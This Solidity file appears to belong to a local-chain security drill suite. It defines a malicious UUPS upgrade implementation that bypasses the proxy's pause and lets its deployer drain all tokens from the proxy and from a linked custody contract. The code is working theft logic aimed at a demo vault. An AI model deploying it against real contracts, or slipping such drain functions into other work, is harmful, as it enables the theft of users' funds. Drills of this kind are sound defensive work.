// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol";
import {IDemoCustody} from "../targets/DemoVaultUUPS.sol";

/// @title EvilVaultImplementation
/// @notice Drill attack (D9), for local chains only. What a thief with the upgrade key installs: it ignores every pause kept in the
/// proxy and hands the tokens to whoever deployed it.
contract EvilVaultImplementation is UUPSUpgradeable {
    using SafeERC20 for IERC20;

    address public immutable THIEF;

    error NotThief();

    constructor() {
        THIEF = msg.sender;
    }

    /// @notice Takes what the proxy holds itself.
    function drain(address token, address to) external {
        if (msg.sender != THIEF) revert NotThief();
        IERC20(token).safeTransfer(to, IERC20(token).balanceOf(address(this)));
    }

    /// @notice Takes what a custody contract holds for the proxy.
    function drainCustody(address token, address custody, address to) external {
        if (msg.sender != THIEF) revert NotThief();
        IDemoCustody(custody).release(to, IERC20(token).balanceOf(custody));
    }

    function _authorizeUpgrade(address) internal view override {
        if (msg.sender != THIEF) revert NotThief();
    }
}
